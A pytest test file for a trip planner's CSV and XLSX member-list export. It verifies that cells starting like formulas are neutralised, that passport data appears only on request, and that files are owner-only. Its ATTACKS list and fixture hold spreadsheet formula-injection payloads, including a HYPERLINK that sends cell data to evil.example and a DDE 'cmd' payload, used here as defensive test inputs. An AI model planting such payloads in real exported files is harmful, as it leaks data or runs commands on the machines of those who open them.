"""Member lists for partners: CSV (UTF-8 with BOM) and XLSX, with no cell that a spreadsheet runs as a formula."""

from __future__ import annotations

import codecs
import csv
import io
import os
import stat
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from planner.db.engine import Database
from planner.domain.entities import TripData
from planner.domain.enums import Language, Role
from planner.domain.errors import NotFoundError, PlannerError
from planner.domain.localized import LocalizedText
from planner.export.member_list import neutralise, render_csv, write_member_list
from planner.importing.members import build_preview, read_member_file
from tests.services.conftest import new_member, new_person, new_trip

ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1", "-1", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=cmd", "\r=cmd", "  =1+2", "\n-2"]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_starts_get_a_quote(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Weil", "O'Brien", "a=b", "1+1", "E-Mail", "", " ", "许勤", "user@example.org"])
def test_harmless_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text


@pytest.fixture
def trip(db: Database) -> TripData:
    trip = new_trip(db)
    new_member(db, trip, new_person(
        db, "Xu", "Qin", "许勤", email="xu.qin@sz.gov.cn", phone="+86 755 8888 0001", passport_number="E12345678",
        passport_expiry=date(2030, 12, 31), nationality="CN", preferred_language=Language.ZH, notes="=internal",
        organisation=LocalizedText(zh="深圳市人民政府", en="Shenzhen Municipal Government"),
    ), Role.HEAD)
    new_member(db, trip, new_person(
        db, "=HYPERLINK(\"http://evil.example\")", "@SUM(1)", function=LocalizedText(de="-1", en="+1"), dietary_needs="\t=cmd",
    ))
    return trip


def read_csv(path: Path, delimiter: str) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(raw[len(codecs.BOM_UTF8):].decode("utf-8"), newline=""), delimiter=delimiter))


@pytest.mark.parametrize("delimiter", [";", ","])
def test_csv_is_utf8_with_bom_in_protocol_order_and_neutralised(db: Database, trip: TripData, tmp_path: Path, delimiter: str) -> None:
    path = write_member_list(db, trip.id, tmp_path / "liste.csv", delimiter=delimiter)
    rows = read_csv(path, delimiter)
    assert rows[0] == [
        "No.", "Family name", "Given name", "Native name", "Honorific", "Organisation", "Function", "Role", "Language",
        "Nationality", "Email", "Phone", "Dietary needs", "Accessibility needs",
    ]
    xu, attacker = (dict(zip(rows[0], r, strict=True)) for r in rows[1:])
    assert (xu["No."], xu["Family name"], xu["Native name"], xu["Role"], xu["Language"]) == ("1", "Xu", "许勤", "Head of delegation", "Chinese")
    assert xu["Organisation"] == "Shenzhen Municipal Government"
    assert xu["Phone"] == "'+86 755 8888 0001"
    assert attacker["Family name"] == "'=HYPERLINK(\"http://evil.example\")"
    assert attacker["Given name"] == "'@SUM(1)"
    assert attacker["Function"] == "'+1"
    assert attacker["Dietary needs"] == "'=cmd"  # the planner stored it trimmed; render_csv is tested with the tab below
    for row in rows:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r", cell


def test_passports_and_notes_only_with_include_private(db: Database, trip: TripData, tmp_path: Path) -> None:
    public = tmp_path / "public.csv"
    write_member_list(db, trip.id, public)
    assert b"E12345678" not in public.read_bytes()
    assert b"internal" not in public.read_bytes()
    if os.name == "posix":  # e-mail, phone, dietary and accessibility needs: the owner's only even without passports
        assert stat.S_IMODE(os.stat(public).st_mode) == 0o600

    private = tmp_path / "private.csv"
    write_member_list(db, trip.id, private, include_private=True)
    rows = read_csv(private, ";")
    assert rows[0][-3:] == ["Passport number", "Passport expiry", "Notes"]
    assert rows[1][-3:] == ["E12345678", "2030-12-31", "'=internal"]
    if os.name == "posix":
        assert stat.S_IMODE(os.stat(private).st_mode) == 0o600  # as private as the database


def test_xlsx_keeps_text_as_text_and_dates_as_dates(db: Database, trip: TripData, tmp_path: Path) -> None:
    path = write_member_list(db, trip.id, tmp_path / "liste.xlsx", include_private=True, language=Language.DE)
    workbook = load_workbook(path)
    sheet = workbook.active
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    header = rows[0]
    assert header[:4] == ["Nr.", "Nachname", "Vorname", "Name in Originalschrift"]
    xu = dict(zip(header, rows[1], strict=True))
    attacker = dict(zip(header, rows[2], strict=True))
    assert (xu["Rolle"], xu["Sprache"], xu["Organisation"]) == ("Delegationsleitung", "Chinesisch", "Shenzhen Municipal Government")
    assert xu["Pass gültig bis"].date() == date(2030, 12, 31)
    # Text cells formatted as text: no apostrophe to see in Excel, and nothing that runs.
    assert attacker["Nachname"] == "=HYPERLINK(\"http://evil.example\")"
    assert attacker["Funktion"] == "-1"
    assert xu["Telefon"] == "+86 755 8888 0001"
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate  # no formula anywhere
            if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                assert cell.data_type == "s" and cell.number_format == "@", cell.coordinate
    assert sheet.freeze_panes == "A2"


def test_an_exported_list_imports_back_to_the_same_people(db: Database, trip: TripData, tmp_path: Path) -> None:
    from planner.services.delegation import list_members

    members = list_members(db, trip.id)
    for language in Language:
        for name in ("liste.csv", "liste.xlsx"):
            path = write_member_list(db, trip.id, tmp_path / f"{language}-{name}", include_private=True, language=language)
            preview = build_preview(read_member_file(path))
            assert preview.column_problems == (), (language, name)
            assert preview.ready, [str(p) for p in preview.problems()]
            for row, member in zip(preview.rows, members, strict=True):
                got, want = row.person, member.person
                assert row.role is member.role
                for field in ("family_name", "given_name", "native_name", "email", "phone", "passport_number", "passport_expiry",
                              "nationality", "preferred_language", "dietary_needs", "notes"):
                    assert getattr(got, field) == getattr(want, field), (language, name, field)


@pytest.mark.parametrize("delimiter", [";", ","])
def test_every_attack_in_every_cell_comes_out_quoted(delimiter: str) -> None:
    data = render_csv(ATTACKS, [ATTACKS, list(reversed(ATTACKS))], delimiter=delimiter)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))
    assert rows == [["'" + a for a in ATTACKS], ["'" + a for a in ATTACKS], ["'" + a for a in reversed(ATTACKS)]]


def test_wrong_names_and_trips_are_refused(db: Database, trip: TripData, tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    with pytest.raises(PlannerError, match="Please name the member list .csv or .xlsx"):
        write_member_list(db, trip.id, out / "liste.pdf")
    with pytest.raises(NotFoundError):
        write_member_list(db, 999, out / "liste.csv")
    with pytest.raises(PlannerError, match="semicolon or a comma"):
        render_csv(["a"], [["b"]], delimiter="|")
    assert not list(out.iterdir())


def test_control_characters_an_xlsx_cannot_hold_are_dropped() -> None:
    from planner.export.member_list import render_xlsx

    data = render_xlsx(["Name"], [["Weil\x01\x02Stephan"]])
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet["A2"].value == "WeilStephan"
